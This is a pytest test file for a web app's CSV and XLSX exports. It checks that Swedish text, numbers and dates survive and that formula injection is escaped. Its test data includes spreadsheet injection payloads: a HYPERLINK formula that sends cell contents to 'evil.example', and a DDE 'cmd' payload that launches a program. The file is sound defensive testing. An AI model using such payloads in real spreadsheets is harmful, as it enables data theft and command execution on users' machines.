"""Exports: CSV and XLSX with formula injection escaped, numbers and dates kept as such."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from app.exports import csv_response, sheet_name, xlsx_response

INJECTIONS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
    "+46 70 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HEADER = ["Kommun", "Antal", "Andel", "Datum", "Tid", "Kommentar"]
ROWS = [
    [
        "Örnsköldsvik",
        12,
        0.25,
        datetime.date(2026, 1, 31),
        datetime.datetime(2026, 2, 1, 14, 5),
        None,
    ],
    ["Härnösand", -3, Decimal("1.5"), None, None, 'Åtgärd; "klar"\nrad två'],
    *[[payload, 0, 0.0, None, None, payload] for payload in INJECTIONS],
]


@pytest.fixture
def request_context(app):
    with app.test_request_context():
        yield


def body(response) -> bytes:
    response.direct_passthrough = False
    return response.get_data()


def read_csv(response) -> list[list[str]]:
    data = body(response)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(response):
    return openpyxl.load_workbook(io.BytesIO(body(response)))


def test_csv_keeps_swedish_letters_numbers_and_iso_dates(request_context):
    table = read_csv(csv_response("Kontakter", HEADER, ROWS))
    assert table[0] == HEADER
    assert table[1] == ["Örnsköldsvik", "12", "0.25", "2026-01-31", "2026-02-01 14:05", ""]
    assert table[2] == ["Härnösand", "-3", "1.5", "", "", 'Åtgärd; "klar"\nrad två']


def test_csv_escapes_every_text_cell_that_could_be_a_formula(request_context):
    table = read_csv(csv_response("Kontakter", ["=cmd|' /C calc'!A0", "ok"], ROWS))
    assert table[0] == ["'=cmd|' /C calc'!A0", "ok"]
    for payload, row in zip(INJECTIONS, table[3:], strict=True):
        assert row[0] == row[5] == "'" + payload
        assert row[1] == "0"  # a number is never prefixed


def test_csv_download_headers(request_context):
    response = csv_response("Kontakter Sundsvall 2026/01", HEADER, [])
    assert response.mimetype == "text/csv"
    assert response.mimetype_params == {"charset": "utf-8"}
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="Kontakter Sundsvall 2026 01.csv"'
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "private, no-store"


def test_xlsx_keeps_numbers_as_numbers_and_dates_as_dates(request_context):
    sheet = read_xlsx(xlsx_response("Kontakter", "Kontakter 2026", HEADER, ROWS)).active
    assert sheet.title == "Kontakter 2026"
    assert [cell.value for cell in sheet[1]] == HEADER
    assert all(cell.font.bold for cell in sheet[1])
    name, count, share, day, moment, empty = sheet[2]
    assert name.value == "Örnsköldsvik"
    assert (count.value, count.data_type) == (12, "n")
    assert (share.value, share.data_type) == (0.25, "n")
    assert day.is_date and day.value.date() == datetime.date(2026, 1, 31)
    assert day.number_format == "yyyy-mm-dd"
    assert moment.value == datetime.datetime(2026, 2, 1, 14, 5)
    assert empty.value is None
    assert [cell.value for cell in sheet[3]][1:3] == [-3, 1.5]
    assert sheet[3][5].value == 'Åtgärd; "klar"\nrad två'
    assert sheet.freeze_panes == "A2"


def test_xlsx_escapes_every_text_cell_that_could_be_a_formula(request_context):
    workbook = read_xlsx(xlsx_response("Kontakter", "Blad", ["@header", "ok"], ROWS))
    sheet = workbook.active
    assert sheet["A1"].value == "'@header"
    for payload, row in zip(INJECTIONS, sheet.iter_rows(min_row=4), strict=True):
        # The file stores a carriage return as _x000D_, which openpyxl leaves as it is.
        assert row[0].value == row[5].value == ("'" + payload).replace("\r", "_x000D_")
        assert row[1].value == 0
    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]


def test_xlsx_download_headers_and_sheet_names(request_context):
    response = xlsx_response("Åtgärdsplan: Sundsvall", "x", HEADER, [])
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    disposition = response.headers["Content-Disposition"]
    assert 'filename="Atgardsplan Sundsvall.xlsx"' in disposition
    assert "filename*=UTF-8''%C3%85tg%C3%A4rdsplan%20Sundsvall.xlsx" in disposition
    assert sheet_name("Kontakter [alla]: 2026/01*?") == "Kontakter alla 2026 01"
    assert sheet_name("'" + "a" * 40) == "a" * 30
    assert sheet_name("///") == "1"


def test_a_bool_cell_is_refused_rather_than_exported_untranslated(request_context):
    with pytest.raises(TypeError):
        csv_response("x", ["Ja?"], [[True]])
